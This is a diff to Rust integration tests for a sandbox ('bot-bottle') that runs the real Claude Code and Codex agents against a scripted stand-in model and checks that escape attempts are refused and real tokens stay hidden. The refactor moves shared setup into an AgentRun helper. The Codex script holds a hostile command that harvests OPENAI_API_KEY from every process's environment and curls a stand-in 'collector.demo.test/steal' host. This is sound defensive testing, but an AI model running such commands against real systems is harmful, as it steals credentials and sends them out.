@@ -83,35 +83,45 @@ fn model_requests(world: &World) -> Vec<(String, Vec<String>)> {
         .collect()
 }
 
-#[test]
-fn the_real_claude_code_runs_in_a_bottle_and_every_escape_is_refused() {
-    support::docker::engine_answers();
-    let tmp = tempfile::tempdir().unwrap();
-    let home = tmp.path().join("bb");
-    let bin = env!("CARGO_BIN_EXE_bot-bottle");
-    let o = Command::new(bin)
-        .args(["images", "build", "--provider", "claude"])
-        .env("BOT_BOTTLE_HOME", &home)
-        .output()
-        .unwrap();
-    assert!(o.status.success(), "images build --provider claude: {}", String::from_utf8_lossy(&o.stderr));
-    let base = String::from_utf8_lossy(&o.stdout)
-        .lines()
-        .find_map(|l| l.strip_prefix("base").map(|t| t.trim().to_string()))
-        .unwrap();
-    let world = World::up(&tmp.path().join("world"), &format!("bb-claude-{}", world::random_hex(3)), &base);
-    std::fs::write(world.get("WORLD_MODEL_SCRIPT"), script().to_string()).unwrap();
-    std::fs::create_dir_all(home.join("bottles")).unwrap();
-    std::fs::create_dir_all(home.join("agents")).unwrap();
-    std::fs::write(
-        home.join("bottles/model.md"),
-        format!(
-            r#"---
+/// One real agent CLI's bottle on the local world: its image built, the
+/// world up, a bottle (`model`) for `provider` with `auth_token:
+/// MODEL_TOKEN`, git-gate and one plain route, and an agent named after the
+/// provider.
+struct AgentRun {
+    home: std::path::PathBuf,
+    world: World,
+    token: String,
+    // Last: removed after the world is down.
+    _tmp: tempfile::TempDir,
+}
+
+impl AgentRun {
+    fn new(provider: &str, token: String) -> AgentRun {
+        support::docker::engine_answers();
+        let tmp = tempfile::tempdir().unwrap();
+        let home = tmp.path().join("bb");
+        let o = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
+            .args(["images", "build", "--provider", provider])
+            .env("BOT_BOTTLE_HOME", &home)
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "images build --provider {provider}: {}", String::from_utf8_lossy(&o.stderr));
+        let base = String::from_utf8_lossy(&o.stdout)
+            .lines()
+            .find_map(|l| l.strip_prefix("base").map(|t| t.trim().to_string()))
+            .unwrap();
+        let world = World::up(&tmp.path().join("world"), &format!("bb-{provider}-{}", world::random_hex(3)), &base);
+        std::fs::create_dir_all(home.join("bottles")).unwrap();
+        std::fs::create_dir_all(home.join("agents")).unwrap();
+        std::fs::write(
+            home.join("bottles/model.md"),
+            format!(
+                r#"---
 agent_provider:
-  template: claude
+  template: {provider}
   auth_token: MODEL_TOKEN
 git-gate:
-  user: {{name: Claude In A Bottle, email: claude@example.com}}
+  user: {{name: An Agent In A Bottle, email: agent@example.com}}
   repos:
     widgets:
       url: ssh://root@git.demo.test/srv/git/widgets.git
@@ -122,49 +132,66 @@ egress:
     - host: api.demo.test
       dlp: {{outbound_on_match: block}}
 ---
-Claude Code against the stand-in model.
+A real agent CLI against the stand-in model.
 "#,
-            world.get("WORLD_HOST_KEY"),
-            world.get("WORLD_GIT_KEY")
-        ),
-    )
-    .unwrap();
-    std::fs::write(home.join("agents/claude.md"), "---\nbottle: model\n---\nYou are a test agent.\n").unwrap();
-    let token = format!("sk-ant-oat01-{}", world::random_hex(24));
+                world.get("WORLD_HOST_KEY"),
+                world.get("WORLD_GIT_KEY")
+            ),
+        )
+        .unwrap();
+        std::fs::write(home.join(format!("agents/{provider}.md")), "---\nbottle: model\n---\nYou are a test agent.\n")
+            .unwrap();
+        AgentRun { home, world, token, _tmp: tmp }
+    }
 
-    // The operator: answers the agent's question from the host.
-    let store = supervise::store_path(&home.join("state/claude-run"));
-    let operator = std::thread::spawn(move || {
-        let deadline = Instant::now() + Duration::from_secs(300);
-        while Instant::now() < deadline {
-            if let Ok(mut st) = ProposalStore::open(&store, "claude-run")
-                && let Some(p) = st.pending().unwrap_or_default().into_iter().find(|p| p.kind == Kind::AskOperator)
-            {
-                assert_eq!(p.payload["question"], "Which database should I use?");
-                return st.decide(p.id, &Answer::Approve, ORACLE, "test").is_ok();
-            }
-            std::thread::sleep(Duration::from_millis(100));
-        }
-        false
-    });
-    let run = |args: &[&str]| {
-        Command::new(bin)
+    /// Run the CLI with the world's hooks and the model token.
+    fn run(&self, args: &[&str]) -> std::process::Output {
+        Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
             .args(args)
-            .env("BOT_BOTTLE_HOME", &home)
-            .env("MODEL_TOKEN", &token)
-            .env("BOT_BOTTLE_UPSTREAM_CA", world.get("WORLD_CA"))
-            .env("BOT_BOTTLE_SIDECAR_NETWORK", world.get("WORLD_NET"))
-            .env("BOT_BOTTLE_SIDECAR_HOSTS", world.get("WORLD_HOSTS"))
+            .env("BOT_BOTTLE_HOME", &self.home)
+            .env("MODEL_TOKEN", &self.token)
+            .env("BOT_BOTTLE_UPSTREAM_CA", self.world.get("WORLD_CA"))
+            .env("BOT_BOTTLE_SIDECAR_NETWORK", self.world.get("WORLD_NET"))
+            .env("BOT_BOTTLE_SIDECAR_HOSTS", self.world.get("WORLD_HOSTS"))
             .env_remove("BOT_BOTTLE_BACKEND")
             .stdin(Stdio::null())
             .output()
             .unwrap()
-    };
+    }
+
+    /// The operator, on the host: answers the first question `identity`'s
+    /// agent asks with [`ORACLE`]; true when it did.
+    fn operator(&self, identity: &'static str) -> std::thread::JoinHandle<bool> {
+        let store = supervise::store_path(&self.home.join("state").join(identity));
+        std::thread::spawn(move || {
+            let deadline = Instant::now() + Duration::from_secs(300);
+            while Instant::now() < deadline {
+                if let Ok(mut st) = ProposalStore::open(&store, identity)
+                    && let Some(p) = st.pending().unwrap_or_default().into_iter().find(|p| p.kind == Kind::AskOperator)
+                {
+                    assert_eq!(p.payload["question"], "Which database should I use?");
+                    return st.decide(p.id, &Answer::Approve, ORACLE, "test").is_ok();
+                }
+                std::thread::sleep(Duration::from_millis(100));
+            }
+            false
+        })
+    }
+}
+
+#[test]
+fn the_real_claude_code_runs_in_a_bottle_and_every_escape_is_refused() {
+    let token = format!("sk-ant-oat01-{}", world::random_hex(24));
+    let agent = AgentRun::new("claude", token.clone());
+    let (world, home) = (&agent.world, &agent.home);
+    std::fs::write(world.get("WORLD_MODEL_SCRIPT"), script().to_string()).unwrap();
+    let operator = agent.operator("claude-run");
+    let run = |args: &[&str]| agent.run(args);
     let o = run(&["start", "claude", "--label", "claude-run", "-y", "--headless", "--prompt", "do the steps"]);
     let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
     assert_eq!(o.status.code(), Some(137), "claude in the bottle did not end as scripted:\n{out}\n{err}");
     assert!(operator.join().unwrap(), "the MCP question never reached the operator");
-    let requests = model_requests(&world);
+    let requests = model_requests(world);
     assert!(requests.len() >= 5, "{} model requests: {requests:?}", requests.len());
     // Every model request went through egress with the real token (the
     // agent's placeholder stripped), and the agent held only the placeholder.
@@ -173,7 +200,7 @@ Claude Code against the stand-in model.
     }
     let all: String = requests.iter().map(|(b, _)| b.as_str()).collect::<Vec<_>>().join("\n");
     assert!(!all.contains(&token), "the real token reached the model's conversation");
-    let results = tool_results(&world);
+    let results = tool_results(world);
     let all = results.join("\n");
     assert_eq!(results.len(), 4, "the tools' results: {results:#?}");
     assert!(all.contains("CLAUDE_CODE_OAUTH_TOKEN=bot-bottle-placeholder"), "{all}");
@@ -211,7 +238,7 @@ Claude Code against the stand-in model.
         "no transcript of the session under {}",
         state.join("transcript").display()
     );
-    let before = model_requests(&world).len();
+    let before = model_requests(world).len();
     // The continued conversation already holds the earlier tool results
     // (the stand-in counts them to pick its step): every step is the answer.
     let resumed_script = serde_json::json!(vec![serde_json::json!({"text": "resumed and done"}); 10]);
@@ -220,7 +247,7 @@ Claude Code against the stand-in model.
     let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
     assert!(o.status.success(), "resume failed:\n{out}\n{err}");
     assert!(out.contains("resumed and done"), "{out}\n{err}");
-    let resumed = &model_requests(&world)[before..];
+    let resumed = &model_requests(world)[before..];
     assert!(
         resumed.iter().any(|(b, _)| b.contains("Which database should I use?") && b.contains("and now?")),
         "the resumed session did not continue the conversation"
@@ -321,21 +348,9 @@ fn codex_tool_results(world: &World) -> Vec<String> {
 
 #[test]
 fn the_real_codex_runs_in_a_bottle_and_every_escape_is_refused() {
-    support::docker::engine_answers();
-    let tmp = tempfile::tempdir().unwrap();
-    let home = tmp.path().join("bb");
-    let bin = env!("CARGO_BIN_EXE_bot-bottle");
-    let o = Command::new(bin)
-        .args(["images", "build", "--provider", "codex"])
-        .env("BOT_BOTTLE_HOME", &home)
-        .output()
-        .unwrap();
-    assert!(o.status.success(), "images build --provider codex: {}", String::from_utf8_lossy(&o.stderr));
-    let base = String::from_utf8_lossy(&o.stdout)
-        .lines()
-        .find_map(|l| l.strip_prefix("base").map(|t| t.trim().to_string()))
-        .unwrap();
-    let world = World::up(&tmp.path().join("world"), &format!("bb-codex-{}", world::random_hex(3)), &base);
+    let token = format!("sk-proj-{}", world::random_hex(24));
+    let agent = AgentRun::new("codex", token.clone());
+    let world = &agent.world;
     let exec = |command: &str| serde_json::json!({"exec": command});
     let script = serde_json::json!([
         exec("for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null | grep '^OPENAI_API_KEY='; done | sort -u; curl -s -o /dev/null -w 'blocked-host=%{http_code}/%{http_connect}' https://collector.demo.test/steal"),
@@ -345,60 +360,8 @@ fn the_real_codex_runs_in_a_bottle_and_every_escape_is_refused() {
         {"text": "codex all done"},
     ]);
     std::fs::write(world.get("WORLD_OPENAI_SCRIPT"), script.to_string()).unwrap();
-    std::fs::create_dir_all(home.join("bottles")).unwrap();
-    std::fs::create_dir_all(home.join("agents")).unwrap();
-    std::fs::write(
-        home.join("bottles/model.md"),
-        format!(
-            r#"---
-agent_provider:
-  template: codex
-  auth_token: MODEL_TOKEN
-git-gate:
-  user: {{name: Codex In A Bottle, email: codex@example.com}}
-  repos:
-    widgets:
-      url: ssh://root@git.demo.test/srv/git/widgets.git
-      host_key: "{}"
-      key: {{provider: static, path: {}}}
-egress:
-  routes:
-    - host: api.demo.test
-      dlp: {{outbound_on_match: block}}
----
-Codex against the stand-in model.
-"#,
-            world.get("WORLD_HOST_KEY"),
-            world.get("WORLD_GIT_KEY")
-        ),
-    )
-    .unwrap();
-    std::fs::write(home.join("agents/codex.md"), "---\nbottle: model\n---\nYou are a test agent.\n").unwrap();
-    let token = format!("sk-proj-{}", world::random_hex(24));
-    let store = supervise::store_path(&home.join("state/codex-run"));
-    let operator = std::thread::spawn(move || {
-        let deadline = Instant::now() + Duration::from_secs(300);
-        while Instant::now() < deadline {
-            if let Ok(mut st) = ProposalStore::open(&store, "codex-run")
-                && let Some(p) = st.pending().unwrap_or_default().into_iter().find(|p| p.kind == Kind::AskOperator)
-            {
-                return st.decide(p.id, &Answer::Approve, ORACLE, "test").is_ok();
-            }
-            std::thread::sleep(Duration::from_millis(100));
-        }
-        false
-    });
-    let o = Command::new(bin)
-        .args(["start", "codex", "--label", "codex-run", "-y", "--headless", "--prompt", "do the steps"])
-        .env("BOT_BOTTLE_HOME", &home)
-        .env("MODEL_TOKEN", &token)
-        .env("BOT_BOTTLE_UPSTREAM_CA", world.get("WORLD_CA"))
-        .env("BOT_BOTTLE_SIDECAR_NETWORK", world.get("WORLD_NET"))
-        .env("BOT_BOTTLE_SIDECAR_HOSTS", world.get("WORLD_HOSTS"))
-        .env_remove("BOT_BOTTLE_BACKEND")
-        .stdin(Stdio::null())
-        .output()
-        .unwrap();
+    let operator = agent.operator("codex-run");
+    let o = agent.run(&["start", "codex", "--label", "codex-run", "-y", "--headless", "--prompt", "do the steps"]);
     let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
     assert!(o.status.success(), "codex in the bottle failed:\n{out}\n{err}");
     assert!(out.contains("codex all done"), "Codex did not finish the script:\n{out}\n{err}");
@@ -418,7 +381,7 @@ Codex against the stand-in model.
     }
     let everything: String = requests.iter().map(|r| r["body"].to_string()).collect();
     assert!(!everything.contains(&token), "the real key reached the model's conversation");
-    let results = codex_tool_results(&world);
+    let results = codex_tool_results(world);
     let all = results.join("\n");
     assert_eq!(results.len(), 4, "the tools' results: {results:#?}");
     assert!(all.contains("OPENAI_API_KEY=bot-bottle-placeholder"), "{all}");
